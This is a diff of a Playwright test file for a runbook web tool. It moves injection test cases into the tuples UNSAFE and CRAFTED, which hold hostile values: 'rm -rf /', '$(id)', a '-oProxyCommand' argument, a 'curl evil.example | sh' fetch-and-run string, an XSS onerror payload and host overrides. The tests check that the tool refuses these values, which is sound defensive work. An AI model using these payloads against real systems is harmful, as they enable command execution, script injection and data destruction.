@@ -6,7 +6,6 @@ from collections.abc import Callable
 from pathlib import Path
 from urllib.parse import urlencode
 
-import pytest
 from playwright.sync_api import Page, expect
 
 from checks.runbook.load import load_docs
@@ -15,6 +14,15 @@ DATABASE = "scenarios/database-connection-issues/"
 PROCESS = "incident-response/"
 PAGES = load_docs(Path(__file__).parents[2])
 ALLOWED = ["clipboard-read", "clipboard-write"]
+UNSAFE = ("db; rm -rf /", "$(id)", "a'b", 'a"b', "-oProxyCommand=x", "a b")
+CRAFTED = (
+    {"alertname": "x'; curl evil.example | sh #"},
+    {"alertname": "<img src=x onerror=alert(1)>"},
+    {"severity": "P1$(id)"},
+    {"started": "2026-01-31T03:04:05Z\nid"},
+    {"key": "`id`"},
+    {"DB_HOST": "evil.example", "db_host": "evil.example", "PLANNER": "http://evil.example"},
+)
 ALERT = {
     "alertname": "QuantumPlannerRequestsFailing",
     "severity": "P1",
@@ -70,40 +78,34 @@ def test_it_is_kept_for_the_next_page_and_forgotten_when_asked(address: str, vis
     assert "$PLANNER" in code(page, "answers")
 
 
-@pytest.mark.parametrize("value", ["db; rm -rf /", "$(id)", "a'b", 'a"b', "-oProxyCommand=x", "a b"])
-def test_what_would_not_be_safe_to_paste_is_told_and_not_used(value: str, visit: Callable[..., Page]) -> None:
+def test_what_would_not_be_safe_to_paste_is_told_and_not_used(visit: Callable[..., Page]) -> None:
     page = visit(DATABASE)
-
     fill(page, "DB_HOST", "good.example.test")
-    page.locator('.values input[name="DB_HOST"]').fill(value)
+    expect(page.locator(".exports")).to_be_visible()
 
-    expect(page.locator(".values .bad")).to_contain_text("$DB_HOST would not be safe to paste")
-    assert (
-        code(page, "database-up").strip()
-        == PAGES["scenarios/database-connection-issues.md"].snippets["database-up"].text
-    )
-    expect(page.locator(".exports")).to_be_hidden()
+    for value in UNSAFE:
+        page.locator('.values input[name="DB_HOST"]').fill(value)
+
+        expect(page.locator(".values .bad")).to_contain_text("$DB_HOST would not be safe to paste")
+        assert (
+            code(page, "database-up").strip()
+            == PAGES["scenarios/database-connection-issues.md"].snippets["database-up"].text
+        ), value
+        expect(page.locator(".exports")).to_be_hidden()
+        page.locator('.values input[name="DB_HOST"]').fill("good.example.test")
+        expect(page.locator(".exports")).to_be_visible()
 
 
-@pytest.mark.parametrize(
-    "asked",
-    [
-        {"alertname": "x'; curl evil.example | sh #"},
-        {"alertname": "<img src=x onerror=alert(1)>"},
-        {"severity": "P1$(id)"},
-        {"started": "2026-01-31T03:04:05Z\nid"},
-        {"key": "`id`"},
-        {"DB_HOST": "evil.example", "db_host": "evil.example", "PLANNER": "http://evil.example"},
-    ],
-)
-def test_a_crafted_link_brings_nothing_into_the_clipboard(asked: dict[str, str], visit: Callable[..., Page]) -> None:
-    page = visit(f"{PROCESS}?{urlencode(asked)}", permissions=ALLOWED)
+def test_a_crafted_link_brings_nothing_into_the_clipboard(address: str, visit: Callable[..., Page]) -> None:
+    page = visit(PROCESS, permissions=ALLOWED)
 
-    for name in ("announce", "acknowledge", "impact"):
-        page.evaluate("navigator.clipboard.writeText('')")
-        assert copied(page, name) == PAGES["incident-response.md"].snippets[name].text
-    assert page.locator(".exports").is_hidden()
-    assert page.evaluate("localStorage.getItem('runbook.values') ?? '{}'") == "{}"
+    for asked in CRAFTED:
+        page.goto(f"{address}{PROCESS}?{urlencode(asked)}")
+        for name in ("announce", "acknowledge", "impact"):
+            page.evaluate("navigator.clipboard.writeText('')")
+            assert copied(page, name) == PAGES["incident-response.md"].snippets[name].text, asked
+        assert page.locator(".exports").is_hidden(), asked
+        assert page.evaluate("localStorage.getItem('runbook.values') ?? '{}'") == "{}", asked
 
 
 def test_what_another_page_of_the_host_has_kept_is_not_believed(visit: Callable[..., Page]) -> None:
